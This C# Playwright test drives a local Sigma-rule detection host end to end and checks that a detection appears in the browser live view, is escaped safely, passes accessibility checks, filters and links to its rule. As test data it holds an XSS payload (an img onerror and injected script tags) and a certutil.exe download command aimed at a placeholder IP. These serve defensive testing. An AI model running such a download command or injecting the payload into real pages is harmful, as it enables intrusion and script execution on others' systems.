using System.Diagnostics;
using System.Text.Json;
using Azure.Messaging.EventHubs;
using Azure.Messaging.EventHubs.Producer;
using Deque.AxeCore.Commons;
using Deque.AxeCore.Playwright;
using Microsoft.Playwright;
using SigmaFunctions.LocalHost.Reporting;
using SigmaFunctions.LocalHost.Worker;
using Spectre.Console;

namespace SigmaFunctions.LocalHost.Tests.Live;

/// <summary>The whole path, from a message on the event hub to a page in Chromium; skipped where there is none.</summary>
public sealed class LiveViewInBrowserTests
{
    private const string Evil = "<img src=x onerror=document.title='hit'></script><script>document.title='hit'</script>\u202egnp";

    private static CancellationToken Token => TestContext.Current.CancellationToken;

    internal static string? Executable => new[] { Environment.GetEnvironmentVariable("CHROMIUM"), "/usr/bin/chromium", "/usr/bin/chromium-browser", "/usr/bin/google-chrome" }
        .FirstOrDefault(path => path is { Length: > 0 } && File.Exists(path));

    [Fact]
    public async Task A_detection_appears_as_text_without_a_reload_and_leads_to_its_rule()
    {
        Assert.SkipWhen(Executable is null, "There is no Chromium; set CHROMIUM to its path.");
        await using var output = new StringWriter();
        IAnsiConsole console = AnsiConsole.Create(new AnsiConsoleSettings { Ansi = AnsiSupport.No, Out = new AnsiConsoleOutput(TextWriter.Synchronized(output)) });
        console.Profile.Width = int.MaxValue;
        using var stop = CancellationTokenSource.CreateLinkedTokenSource(Token);
        await using var run = new LocalHostRun(new LocalHostOptions { Port = 0, HttpPort = 0 }, new ConsoleReport(console, TimeProvider.System), TimeProvider.System);
        Task<bool> running = run.RunAsync(stop.Token);
        string address = await ValueAsync(output, running, "Live view");
        string connection = (await ValueAsync(output, running, "EVENTHUB_CONNECTION=")).Trim('\'');

        using IPlaywright playwright = await Playwright.CreateAsync();
        await using IBrowser browser = await playwright.Chromium.LaunchAsync(new BrowserTypeLaunchOptions { ExecutablePath = Executable, Args = ["--no-sandbox", "--disable-gpu"] });
        IPage page = await browser.NewPageAsync(new BrowserNewPageOptions { ViewportSize = new ViewportSize { Width = 360, Height = 800 } });
        var trouble = new List<string>();
        page.Console += (_, message) => trouble.Add($"{message.Type}: {message.Text}");
        page.PageError += (_, error) => trouble.Add(error);
        await page.GotoAsync(address);
        ILocator rows = page.Locator("#list > li");
        await Assertions.Expect(rows.Filter(new LocatorFilterOptions { HasText = "Node.EXE" }).First).ToBeVisibleAsync(new LocatorAssertionsToBeVisibleOptions { Timeout = 60_000 });

        await using (var producer = new EventHubProducerClient(connection, WorkerSettings.LocalEventHub))
        {
            string command = $"certutil.exe -urlcache -split -f http://203.0.113.7/{Evil}";
            await producer.SendAsync(
                [new EventData(JsonSerializer.Serialize(new { category = "process_creation", product = "windows", Image = @"C:\Windows\System32\certutil.exe", OriginalFileName = "CertUtil.exe", CommandLine = command, Computer = "evil" }))], Token);
        }
        ILocator evil = rows.Filter(new LocatorFilterOptions { HasText = "<img src=x onerror=" }).First;
        await Assertions.Expect(evil).ToContainTextAsync(@"</script><script>document.title='hit'</script>\u202egnp", new LocatorAssertionsToContainTextOptions { Timeout = 30_000 });
        Assert.Equal(0, await page.Locator("img, body script").CountAsync());
        await evil.Locator("summary").ClickAsync();
        await Assertions.Expect(evil.Locator("pre")).ToHaveCountAsync(2);
        await Assertions.Expect(evil.Locator("pre").Nth(1)).ToContainTextAsync($"{address}catalog/rules/");
        Assert.Equal(0, await page.EvaluateAsync<int>("() => document.documentElement.scrollWidth - document.documentElement.clientWidth"));
        Assert.DoesNotContain("hit", await page.TitleAsync(), StringComparison.Ordinal);
        Assert.Equal("", string.Join('\n', trouble));

        // It tries to read style sheets, which the page forbids.
        AxeResult axe = await page.RunAxe();
        Assert.Equal("", string.Join('\n', axe.Violations.Where(one => one.Impact is "serious" or "critical").Select(one => $"{one.Id}: {string.Join(' ', one.Nodes.Take(3).Select(node => node.Html))}")));

        await page.FillAsync("#query", "no detection says this");
        await Assertions.Expect(evil).ToBeHiddenAsync();
        await page.FillAsync("#query", "");
        // What is hidden has no text.
        await Assertions.Expect(evil).ToBeVisibleAsync();
        string title = await evil.Locator("a.title").InnerTextAsync();
        await evil.Locator("a.title").ClickAsync();
        await Assertions.Expect(page.Locator("h1")).ToHaveTextAsync(title, new LocatorAssertionsToHaveTextOptions { Timeout = 30_000 });

        await stop.CancelAsync();
        await Assert.ThrowsAnyAsync<OperationCanceledException>(() => running);
    }

    private static async Task<string> ValueAsync(StringWriter output, Task running, string name)
    {
        var waited = Stopwatch.StartNew();
        while (true)
        {
            if (running.IsCompleted)
            {
                await running;
            }

            string[] lines = output.ToString().Split('\n')[..^1];
            if (lines.FirstOrDefault(line => line.Contains(name, StringComparison.Ordinal) && line.Contains("://", StringComparison.Ordinal)) is { } line)
            {
                return line[(line.IndexOf(name, StringComparison.Ordinal) + name.Length)..].Trim();
            }

            Assert.True(waited.Elapsed < TimeSpan.FromMinutes(2), $"The console does not show '{name}': {output}");
            await Task.Delay(20, Token);
        }
    }
}
